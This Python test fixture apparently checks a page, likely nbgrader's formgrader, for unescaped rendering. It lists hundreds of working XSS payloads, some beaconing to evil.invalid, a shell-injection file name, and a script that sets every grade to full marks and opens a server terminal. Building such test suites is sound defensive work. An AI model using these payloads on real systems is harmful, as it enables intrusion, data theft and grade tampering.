# ruff: noqa: E501  (a payload is one line)
"""Texts that try to run a script, load something or lead away in whatever page shows them unescaped.

A payload that gets through calls `alert` (the test replaces it by a bell), or asks for a file of evil.invalid. No two
differ only in a constant: each needs another way of the browser, of a sanitiser or of a template to go wrong.
"""

import re

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
EVIL = "http://evil.invalid"

PAYLOADS = {
    # a script element, and what breaks out of where a text stands
    "script": "<script>alert(1)</script>",
    "script-in-capitals-with-space": "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "script-from-elsewhere": f'<script src="{EVIL}/a.js"></script>',
    "script-module": "<script type=module>alert(1)</script>",
    "script-slash": "<script/x>alert(1)</script/y>",
    "script-unclosed": "<script>alert(1)//",
    "script-nested": "<scr<script></script>ipt>alert(1)</script>",
    "break-script": "</script><script>alert(1)</script>",
    "break-style": "</style><script>alert(1)</script>",
    "break-title": "</title><script>alert(1)</script>",
    "break-textarea": "</textarea><script>alert(1)</script>",
    "break-pre": "</code></pre></details></section></main><script>alert(1)</script>",
    "break-double-quote": '"><script>alert(1)</script><a title="',
    "break-single-quote": "'><script>alert(1)</script><a title='",
    "attribute-double-quote": '" autofocus tabindex=0 onfocus=alert(1) x="',
    "attribute-single-quote": "' onmouseover='alert(1)' style='position:fixed;inset:0' x='",
    "comment-break": "--><script>alert(1)</script><!--",
    "comment-bang-break": "--!><img src=x onerror=alert(1)>",
    "comment-conditional": "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>",
    "cdata-break": "]]><script>alert(1)</script><![CDATA[",
    "cdata-inside-svg": "<svg><![CDATA[><image xlink:href='x' onerror=alert(1)//]]></svg><img src=x onerror=alert(1)>",
    "processing-instruction": "<?xml version='1.0'?><x onclick=alert(1) ?><img src=x onerror=alert(1)>",
    # event handlers
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-without-spaces": "<img/src=x/onerror=alert(1)>",
    "img-backtick": "<img src=`x` onerror=alert(1)>",
    "img-unclosed": "<img src=x onerror=alert(1) ",
    "img-entity-handler": "<img src=x onerror=&#97;lert(1)>",
    "img-srcset": f'<img srcset="{EVIL}/a.png 1x">',
    "body-onload": "<body onload=alert(1)>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert&#40;1)</script></svg>",
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-use-data": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"></svg>",
    "svg-foreign-object": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "svg-link": "<svg><a xlink:href='javascript:alert(1)'><text y=20>click</text></a></svg>",
    "svg-file": "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><rect/></svg>",
    "svg-image-elsewhere": f"<svg><image href='{EVIL}/a.png'/></svg>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "video-source-onerror": "<video><source onerror=alert(1)></video>",
    "audio-onerror": "<audio src=x onerror=alert(1)>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "select-autofocus": "<select autofocus onfocus=alert(1)></select>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "animation-handler": "<style>@keyframes q{}</style><b style='animation-name:q' onanimationstart=alert(1)>x</b>",
    "transition-handler": "<b id=z tabindex=1 style='transition:outline 1s' ontransitionend=alert(1)>x</b>",
    "content-visibility": "<b style='content-visibility:auto' oncontentvisibilityautostatechange=alert(1)>x</b>",
    "custom-element": "<x-y onclick=alert(1) contenteditable onfocus=alert(1) autofocus tabindex=0>x</x-y>",
    "popover": "<button popovertarget=p>x</button><b popover id=p onbeforetoggle=alert(1)>x</b>",
    # frames, plug-ins, pages that lead away
    "iframe-javascript": "<iframe src='javascript:parent.alert(1)'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "iframe-elsewhere": f"<iframe src='{EVIL}/'></iframe>",
    "iframe-data": "<iframe src='data:text/html,<script>parent.postMessage(1,\"*\")</script>' onload=alert(1)></iframe>",
    "object-data": f"<object data='{EVIL}/a.swf'><img src=x onerror=alert(1)></object>",
    "embed": f"<embed src='{EVIL}/a.swf'>",
    "frameset": "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
    "portal-fencedframe": f"<portal src='{EVIL}'></portal><fencedframe></fencedframe><img src=x onerror=alert(1)>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/away'>",
    "meta-refresh-javascript": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"
    "<script>alert(1)</script>",
    "base": f"<base href='{EVIL}/'><img src=relative.png>",
    "form-button": "<form action='javascript:alert(1)'><button autofocus>Show my points</button></form>",
    "form-of-another": f"<form action='{EVIL}/login'><input name=password type=password></form>"
    "<button form=x formaction='javascript:alert(1)'>Log in</button>",
    "link-stylesheet": f"<link rel=stylesheet href='{EVIL}/a.css'>",
    "link-prefetch": f"<link rel='prefetch preload' as=image href='{EVIL}/a.png'>",
    "link-import": f"<link rel=import href='{EVIL}/a.html'><link rel=modulepreload href='{EVIL}/a.js'>",
    # links
    "link-javascript": "<a href='javascript:alert(1)'>click</a>",
    "link-javascript-tab": "<a href='java\tscript:alert(1)'>click</a>",
    "link-javascript-entities": "<a href='&#x6A;avascript&colon;alert(1)'>click</a>",
    "link-javascript-control": "<a href='\x01javascript:alert(1)'>click</a>",
    "link-data": "<a href='data:text/html,<script>alert(1)</script>' target=_self>click</a>",
    "link-vbscript": "<a href='vbscript:MsgBox(1)'>click</a><a href='JaVaScRiPt:alert(1)'>click</a>",
    "link-ping": f"<a href='#' ping='{EVIL}/ping'>click</a><img src='{EVIL}/p.gif'>",
    "markdown-link": "[click](javascript:alert(1))",
    "markdown-link-spaced": "[click](<java&#115;cript:alert(1)>)",
    "markdown-reference": "[click][1]\n\n[1]: javascript:alert(1) 'x'",
    "markdown-image": f"![x]({EVIL}/a.png)",
    "markdown-image-handler": '![x](x"onerror="alert(1))',
    "markdown-autolink": "<javascript:alert(1)> and <https://evil.invalid/a>",
    "markdown-html": "**x** <img src=x onerror=alert(1)> *y*",
    "markdown-fence": "```html\" onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "markdown-attachment": "![x](attachment:a.png\"onerror=\"alert(1))",
    # style sheets
    "style-import": f"<style>@import url('{EVIL}/a.css');</style>",
    "style-background": f"<b style='background:url({EVIL}/a.png)'>x</b>",
    "style-exfiltration": f"<style>td[class]{{background:url({EVIL}/q)}} body{{background:url({EVIL}/b)}}</style>",
    "style-font": f"<style>@font-face{{font-family:q;src:url({EVIL}/f.woff)}} *{{font-family:q !important}}</style>",
    "style-cover": "<style>body *{display:none}body::after{content:'30 of 30 points'}</style><script>alert(1)</script>",
    # templates and formulas
    "template-braces": "{{7*7}}{{ ''.__class__.__mro__ }}{% for x in range(9) %}<img src=x onerror=alert(1)>{% endfor %}",
    "template-safe": "{{ '<script>alert(1)</script>' | safe }}",
    "template-include": "{% include 'feedback.css' %}{{ policy }}{{ self.__init__.__globals__ }}",
    "template-dollar": "${alert(1)}#{alert(1)}<%= alert(1) %><script>alert`1`</script>",
    "template-angular": "<b ng-app ng-init=\"constructor.constructor('alert(1)')()\">{{constructor.constructor('alert(1)')()}}"
    "</b>",
    "mathjax-href": r"$\href{javascript:alert(1)}{x}$ \(\unicode{<img src=x onerror=alert(1)>}\)",
    "mathjax-require": r"$$\require{html}\style{background:url(//evil.invalid/x)}{x}\class{x}{y}$$"
    "<script type='math/tex'>x</script><script>alert(1)</script>",
    "mathjax-config": "<script type='text/x-mathjax-config'>alert(1)</script><img src=x onerror=alert(1)>",
    # what parsers read in two ways
    "mutation-math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "mutation-noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation-svg-style": "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    "<img onerror=alert(1) src>'>",
    "mutation-xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "mutation-table": "<table><td><script>alert(1)</script></table><table background='http://evil.invalid/t.png'>",
    "mutation-plaintext": "<plaintext/onclick=alert(1)><script>alert(1)</script>",
    "mutation-annotation": "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "template-element": "<template shadowrootmode=open><img src=x onerror=alert(1)></template><p></p>"
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "doubly-encoded": "&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "percent-encoded": "%3Cscript%3Ealert(1)%3C/script%3E",
    "dom-clobbering": "<form id=body><input name=attributes><img id=alert name=cookie></form><a id=part-1 href='x:y'>x</a>"
    "<img src=x onerror=alert(1)>",
    # terminals
    "ansi-colour": f"{ESC}[31m<script>alert(1)</script>{ESC}[0m",
    "ansi-splits-tag": f"<scr{ESC}[0mipt>alert(1)</scr{ESC}[0mipt>",
    "ansi-in-attribute": f"{ESC}[38;2;1;2;3\" onmouseover=\"alert(1)m<img src=x onerror=alert(1)>",
    "osc-8-link": f"{ESC}]8;;javascript:alert(1){ST}click{ESC}]8;;{ST}",
    "osc-8-quote": f"{ESC}]8;;\"><script>alert(1)</script>{BEL}click{ESC}]8;;{BEL}",
    "osc-title": f"{ESC}]0;<script>alert(1)</script>{BEL}title",
    "osc-unterminated": f"{ESC}]52;c;PGltZz4=<img src=x onerror=alert(1)>",
    "dcs-and-c1": f"{ESC}P1$q<img src=x onerror=alert(1)>{ST}\x9b31m\x9d8;;javascript:alert(1)\x9cx",
    "return-overwrites": "<script>alert(1)</script>\rharmless",
    "backspaces": "<scripX\x08t>alert(1)</script>",
    # characters
    "null-splits-tag": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x\x00 onerror=alert(1)>",
    "bidi-override": "\u202e<tpircs>\u202c<script>alert(1)</script>",
    "bidi-isolate": "\u2066<img src=x onerror=alert(1)>\u2069\u2067 points: 30",
    "zero-width": "<\u200bscript>alert(1)<\u200b/script><s\ufeffvg onload=alert(1)>",
    "full-width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "long-s-and-kelvin": "<\u017fcript>alert(1)</\u017fcript><lin\u212a rel=stylesheet href=x>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "overlong-latin": "\u00c0\u00bcscript\u00c0\u00bealert(1)",
    "line-separators": "<img\u2028src=x\u2029onerror=alert(1)><img\x0csrc=x\x0bonerror=alert(1)>",
    "lone-surrogates": "\ud83d<script>alert(1)</script>\udc00",
    "stacked-marks": "Z" + "\u0351" * 300 + "<script>alert(1)</script>",
    "tag-characters": "".join(chr(0xE0000 + ord(c)) for c in "<script>") + "<script>alert(1)</script>",
    "path-name": "../../<img src=x onerror=alert(1)>/..\\%2e%2e",
    "shell-name": "$(touch x)`id`;<svg/onload=alert(1)>",
    "json-break": '"}</script><script>alert(1)</script>{"a":"',
    "image-data-break": 'iVBORw0KGgo=" onerror="alert(1)" x="',
    "image-svg-as-data": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\"><svg onload=alert(1)>",
    "import-map": "<script type=importmap>{\"imports\":{}}</script><script>import('data:text/javascript,alert(1)')</script>",
    "speculation-rules": "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"http://evil.invalid/s\"]}]}</script>"
    "<script>alert(1)</script>",
    "service-worker": "<script>navigator.serviceWorker&&navigator.serviceWorker.register('/x.js');alert(1)</script>",
    "beacon": f"<script>navigator.sendBeacon('{EVIL}/b');new Image().src='{EVIL}/i'</script>",
}  # fmt: skip

SELF_GRADING = """<script>(async () => {
    const token = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1], headers = {'X-XSRFToken': token, 'X-CSRFToken': token};
    const base = location.pathname.split('/formgrader')[0], here = location.pathname.match(/submissions\\/([^/]*)/)[1];
    for (const one of await (await fetch(`${base}/formgrader/api/grades?submission_id=${here}`)).json())
        await fetch(`${base}/formgrader/api/grade/${one.id}`, {method: 'PUT', headers,
            body: JSON.stringify({manual_score: one.max_score, extra_credit: 5})});
    await fetch(`${base}/api/terminals`, {method: 'POST', headers, body: '{}'});
    alert(1);
})()</script>"""
# What formgrader itself makes of a text, beside what any page does.
ON_FORMGRADER = {
    "self-grading": SELF_GRADING,
    "files-prefix": "[click](files/javascript:alert(1)) <a href='files/javascript:alert(1)'>click</a>",
    "formgraders-path": "![x](/formgrader?path=submitted/s0) ![x](../../../formgrader?path=submitted/s0)",
    "formgraders-path-encoded": "<img src='%2e%2e/%2e%2e/%2e%2e/formgrader?path=submitted/s0'><img src='..\\..\\logout'>",
    "formgraders-path-link": "[source](../../../formgrader?path=submitted/s0) [b](http://localhost:8888/formgrader?path=s)",
    "next-student": "<img src='next'><img src='prev?index=1'>",
    "credit-class": "<b class='full-credit'>Show the drawing</b><span class=no-credit>x</span><i class='mark-graded'>y</i>",
    "score-class": "<input class='score tabbable' value=99><input class='extra-credit' value=99 type=number>",
    "names-of-the-page": "<div id=notebook></div><div id=statusmessage></div><a id=submission_id></a><form name=base_url>",
    "names-of-cells": "<input id=area-check><textarea id='essay-0-comment'>x</textarea>\n\n# area-check\n\n# notebook",
    "tooltip": "<b data-toggle=tooltip data-html=true title='<img src=x onerror=alert(1)>' data-link='/x'>x</b>",
    "cover": "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>Next</div><div class=navbar-fixed-top>x</div>",
    "style-url": f"<b style='background-color:url({EVIL}/c);color:red;list-style:url({EVIL}/l)'>x</b>",
    "style-escape": f"<b style='back\\67round:u\\72l({EVIL}/c)'>x</b>",
    "mermaid": "```mermaid\ngraph TD\nA[<img src=x onerror=alert(1)>]\nclick A 'javascript:alert(1)'\n```",
    "jp-mermaid": "<div class='jp-Mermaid'><pre class='mermaid'>graph TD\nclick A \"javascript:alert(1)\"</pre></div>",
    "tex-macros": r"$\href{javascript:alert(1)}{x}\class{full-credit}{y}\cssId{notebook}{z}\style{position:fixed}{u}$",
    "markdown-title": "[a](https://example.org '\"onmouseover=\"alert(1)') ![a](a.png '\"onerror=\"alert(1)')",
    "heading-quote": "# x\" onmouseover=\"alert(1)\n\n## <img src=x onerror=alert(1)>",
    "table-cell": "|a|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "fence-language": "```python onclick=alert(1)\n<img src=x onerror=alert(1)>\n```\n~~~<script>alert(1)</script>\n~~~",
    "picture-of-an-attachment": "<img src='attachment:a.png' onerror=alert(1)> <img src='attachment:../../../logout'>",
    "checkbox": "- [ ] x <input type=checkbox onclick=alert(1) name=score form=x formaction=javascript:alert(1)>",
}  # fmt: skip

EVERY = PAYLOADS | ON_FORMGRADER


def numbered(text, number):
    """A payload that rings with a number and asks for a path that begins with one, to be known among others."""
    text = re.sub(r"alert(\(|&#40;|`)1", rf"alert\g<1>{number}", text)
    return text.replace("//evil.invalid", f"//evil.invalid/{number}")


def named(told):
    """A sentence with the payload's name in place of its number (any thousands, and its place in EVERY)."""
    names = list(EVERY)
    return re.sub(
        r"\b\d(\d\d\d)\b", lambda found: names[int(found[1])] if int(found[1]) < len(names) else found[0], told
    )
